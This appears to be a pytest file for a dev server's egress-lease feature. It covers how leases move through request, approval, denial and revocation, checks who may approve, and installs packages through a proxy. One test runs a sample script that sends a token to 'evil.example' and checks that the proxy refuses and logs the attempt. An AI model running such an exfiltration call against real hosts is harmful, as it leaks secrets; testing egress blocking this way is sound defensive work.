"""Egress over HTTP: who may open what, and a run that installs its packages through the door, from a local registry."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import ExitStack, closing
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from uuid import UUID, uuid4

import pytest

from devstudio_server.auth import Role
from devstudio_server.auth.identity import LOCAL_TENANT_ID
from devstudio_server.kit.ids import new_id
from devstudio_server.scm import GitStorage
from devstudio_server.scm.git import EMPTY_TREE, Author
from support.registry import MODULE, PACKAGE, Registry
from support.studio import Api, Studio
from support.team import Team

PYTHON_TESTS = f"import {MODULE}\n\n\ndef test_greets():\n    assert {MODULE}.greet() == 'leased hello'\n"
PYPROJECT = f'[project]\nname = "app"\nversion = "1"\ndependencies = ["{PACKAGE}==1.0.0"]\n'
NODE_TESTS = f"""const test = require('node:test');
const assert = require('node:assert');
test('greets', () => assert.equal(require('{PACKAGE}')(), 'leased hello'));
"""
DOWNLOAD = """
import ssl, sys, urllib.request
with urllib.request.urlopen(sys.argv[1], timeout=60) as answer:
    wanted, had = int(answer.headers["Content-Length"]), 0
    while piece := answer.read(65536):
        had += len(piece)
sys.exit(0 if had == wanted else f"cut after {had} of {wanted} bytes")
"""


@dataclass
class World:
    """A server of one local user whose mirror is a registry of the test."""

    studio: Studio
    registry: Registry

    @property
    def api(self) -> Api:
        return self.studio.api

    def project(self, files: dict[str, str]) -> str:
        """Make a project whose branch has ``files``."""
        project_id = str(self.api.project(name=f"P {uuid4().hex[:8]}")["id"])
        repository = GitStorage(self.studio.data_dir / "repositories").repository(LOCAL_TENANT_ID, UUID(project_id))
        head = repository.require_head("main")
        tree = repository.change(EMPTY_TREE, {path: text.encode() for path, text in files.items()})
        commit = repository.commit(tree, (head,), "Files", Author("Ana", "ana@example.test"))
        repository.move_branch("main", commit, head)
        return project_id

    def lease(self, project_id: str, domain: str | None = None, **fields: Any) -> dict[str, Any]:
        """Ask for a lease and approve it."""
        asked = {"project_id": project_id, "domains": [domain or self.registry.domain], "reason": "Packages."}
        lease = self.api.post("egress/leases", asked | fields).expect(201)
        return dict(self.api.post(f"egress/leases/{lease['id']}/approve", {}).expect(200))

    def run(self, project_id: str, **fields: Any) -> tuple[dict[str, Any], str]:
        """Run the tests, or a command, and return the run with its log."""
        path, body = ("exec", {"type": "test"}) if "command" in fields else ("exec/test", {})
        run = self.api.post(path, {"project_id": project_id, **body, **fields}).expect(202)
        run = self.api.wait_for_run(run["id"])
        return run, self.api.get(f"exec/{run['id']}/logs").expect(200)["content"]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    folder = tmp_path_factory.mktemp("egress")
    with Registry(folder / "registry") as registry, Studio(folder / "data", registry.environment()) as studio:
        yield World(studio, registry)


def asked(project_id: str, **fields: Any) -> dict[str, Any]:
    return {"project_id": project_id, "domains": ["PyPI.org", ".Example.org:8443"], "reason": "Packages."} | fields


def test_a_lease_lives_from_its_request_to_its_end(world: World) -> None:
    api, project = world.api, world.api.project()["id"]
    lease = api.post("egress/leases", asked(project)).expect(201)
    assert (lease["status"], lease["domains"]) == ("requested", [".example.org:8443", "pypi.org"])
    assert (lease["approved_by"], lease["expires_at"], lease["version"]) == (None, None, 1)
    approved = api.post(f"egress/leases/{lease['id']}/approve", {"expires_in_s": 120}).expect(200)
    assert (approved["status"], approved["duration_s"], approved["self_approved"]) == ("approved", 120, True)
    assert approved["expires_at"] > approved["approved_at"]
    api.post(f"egress/leases/{lease['id']}/approve", {}).problem(409)
    api.post(f"egress/leases/{lease['id']}/deny", {"reason": "Too late."}).problem(409)
    revoked = api.send("POST", f"egress/leases/{lease['id']}/revoke").expect(200)
    assert (revoked["status"], revoked["ended_by"]) == ("revoked", revoked["requested_by"])
    denied = api.post("egress/leases", asked(project)).expect(201)["id"]
    told = api.post(f"egress/leases/{denied}/deny", {"reason": "Use the mirror."}).expect(200)
    assert (told["status"], told["end_reason"]) == ("denied", "Use the mirror.")
    listed = {item["id"]: item["status"] for item in api.get("egress/leases", project_id=project).expect(200)["items"]}
    assert listed == {lease["id"]: "revoked", denied: "denied"}
    assert [item["id"] for item in api.get("egress/leases", project_id=project, status="denied").body["items"]] == [
        denied
    ]
    assert api.get(f"egress/leases/{denied}/requests").expect(200) == {"items": [], "next_cursor": None}


@pytest.mark.parametrize(
    ("fields", "place"),
    [
        ({"domains": []}, "domains"),
        ({"domains": ["*"]}, "domains"),
        ({"domains": [".org"]}, "domains"),
        ({"domains": ["https://example.org/"]}, "domains"),
        ({"domains": ["example.org:0"]}, "domains"),
        ({"domains": ["127.1"]}, "domains"),
        ({"domains": ["a\u0430.org"]}, "domains"),
        ({"reason": " "}, "reason"),
        ({"expires_in_s": 59}, "expires_in_s"),
        ({"expires_in_s": 86_401}, "expires_in_s"),
        ({"max_bytes_down": 0}, "max_bytes_down"),
        ({"run_id": str(uuid4())}, "run_id"),
        ({"who": "me"}, "who"),
    ],
)
def test_a_request_that_cannot_stand_is_refused(world: World, fields: dict[str, Any], place: str) -> None:
    project = world.api.get("projects", limit=1).body["items"] or [world.api.project()]
    problem = world.api.post("egress/leases", asked(project[0]["id"], **fields)).problem(422)
    assert any(place in error["loc"] for error in problem["errors"])


def test_a_task_of_another_project_gets_no_lease(world: World) -> None:
    ours, theirs = (world.api.project()["id"] for _ in range(2))
    session = world.api.session(theirs)["id"]
    tasks = {"documents": {"tasks": "# Tasks\n- [ ] 1. Do it\n"}}
    world.api.put(f"spec-sessions/{session}", tasks).expect(200)
    task = world.api.get(f"spec-sessions/{session}/tasks").expect(200)["items"][0]["id"]
    world.api.post("egress/leases", asked(ours, task_id=task)).problem(422)
    world.api.post("egress/leases", asked(ours, task_id=str(uuid4()))).problem(404)
    lease = world.api.post("egress/leases", asked(theirs, task_id=task)).expect(201)
    assert world.api.get("egress/leases", task_id=task).body["items"] == [lease]


def test_two_people_and_their_permissions(tmp_path: Path, team: Team) -> None:
    tenant = new_id()
    with team.studio(tmp_path / "data") as server, ExitStack() as stack:

        def person(name: str, *roles: Role, of: UUID = tenant) -> Api:
            return stack.enter_context(closing(team.api(server.url, of, user=name, roles=roles)))

        executor, reviewer = person("eva", Role.EXECUTOR), person("rui", Role.REVIEWER)
        admin, viewer = person("ana", Role.ADMIN_DEVSTUDIO), person("vic", Role.VIEWER)
        stranger = person("sam", Role.ADMIN_DEVSTUDIO, of=new_id())
        project = executor.project()["id"]
        for nobody in (viewer, reviewer):
            assert "exec:run" in nobody.post("egress/leases", asked(project)).problem(403)["detail"]
        lease = executor.post("egress/leases", asked(project)).expect(201)["id"]
        for nobody in (viewer, executor):
            refused = nobody.post(f"egress/leases/{lease}/approve", {}).problem(403)
            assert "egress:approve" in refused["detail"]
        own = admin.post("egress/leases", asked(project)).expect(201)["id"]
        assert admin.post(f"egress/leases/{own}/approve", {}).problem(403)["type"].endswith("EgressSelfApproval")
        for action, body in (("approve", {}), ("deny", {"reason": "No."}), ("revoke", None)):
            stranger.send("POST", f"egress/leases/{lease}/{action}", json=body or {}).problem(404)
        stranger.get(f"egress/leases/{lease}").problem(404)
        stranger.get(f"egress/leases/{lease}/requests").problem(404)
        assert stranger.get("egress/leases").expect(200)["items"] == []
        approved = reviewer.post(f"egress/leases/{lease}/approve", {}).expect(200)
        assert (approved["status"], approved["self_approved"]) == ("approved", False)
        assert approved["approved_by"] != approved["requested_by"]
        assert viewer.get(f"egress/leases/{lease}").expect(200) == approved
        events = [event["action"] for event in admin.get("audit", resource_id=lease).expect(200)["items"]]
        assert sorted(events) == ["egress_lease.created", "egress_lease.updated"]


def test_packages_of_python_come_through_a_lease_and_only_then(world: World) -> None:
    project = world.project({"pyproject.toml": PYPROJECT, "test_app.py": PYTHON_TESTS})
    run, log = world.run(project)
    assert (run["status"], "Egress" in log) == ("failed", False)
    assert f"No module named '{MODULE}'" in log
    lease = world.lease(project)
    run, log = world.run(project)
    assert run["status"] == "success", log
    assert f"Egress: {world.registry.domain}, through a proxy" in log
    assert "Successfully installed leased-greeting-1.0.0" in log
    requests = world.api.get(f"egress/leases/{lease['id']}/requests").expect(200)["items"]
    assert requests
    for request in requests:
        assert (request["method"], request["host"], request["verdict"]) == ("CONNECT", "registry.test", "allowed")
        assert request["port"] == world.registry.port
        assert request["run_id"] == run["id"]
        assert min(request["bytes_up"], request["bytes_down"], request["duration_s"]) > 0
    everything = world.api.get("egress/requests", run_id=run["id"]).expect(200)["items"]
    assert [item["id"] for item in everything] == [item["id"] for item in requests]


def test_packages_of_node_come_through_a_lease(world: World) -> None:
    manifest = {"name": "app", "scripts": {"test": "node --test"}, "dependencies": {PACKAGE: "1.0.0"}}
    lock = json.dumps(world.registry.lock())
    project = world.project(
        {"package.json": json.dumps(manifest), "package-lock.json": lock, "app.test.js": NODE_TESTS}
    )
    world.lease(project)
    run, log = world.run(project)
    assert run["status"] == "success", log
    assert "(npm)" in log
    assert any(path.startswith("/npm/") for path in world.registry.asked)


def test_a_lease_that_names_something_else_installs_nothing_and_what_is_refused_is_told(world: World) -> None:
    project = world.project({"test_app.py": "def test_a():\n    pass\n"})
    world.lease(project, "example.org")
    script = "import urllib.request\nurllib.request.urlopen('https://evil.example/secret?token=hidden')\n"
    run, log = world.run(project, command=["python3", "-c", script])
    assert run["status"] == "failed"
    assert "no lease in force allows evil.example at port 443" in log
    (request,) = world.api.get("egress/requests", run_id=run["id"], verdict="refused").expect(200)["items"]
    assert (request["host"], request["port"], request["lease_id"], request["path"]) == ("evil.example", 443, None, "")
    assert "hidden" not in json.dumps(request)


def test_a_download_ends_when_its_lease_is_revoked(world: World) -> None:
    registry = world.registry
    project = world.project({"get.py": DOWNLOAD})
    lease = world.lease(project)
    command = ["python3", "get.py", f"{registry.url}/endless"]
    run = world.api.post("exec", {"project_id": project, "type": "test", "command": command}).expect(202)
    assert registry.streaming.wait(60), world.api.get(f"exec/{run['id']}/logs").body
    world.api.send("POST", f"egress/leases/{lease['id']}/revoke").expect(200)
    assert registry.cut.wait(20), "nobody cut the download"
    ended = world.api.wait_for_run(run["id"])
    assert (ended["status"], ended["exit_code"]) == ("failed", 1)
    (request,) = world.api.get(f"egress/leases/{lease['id']}/requests").expect(200)["items"]
    assert request["reason"] == "the lease was revoked"
    assert request["bytes_down"] > 4096
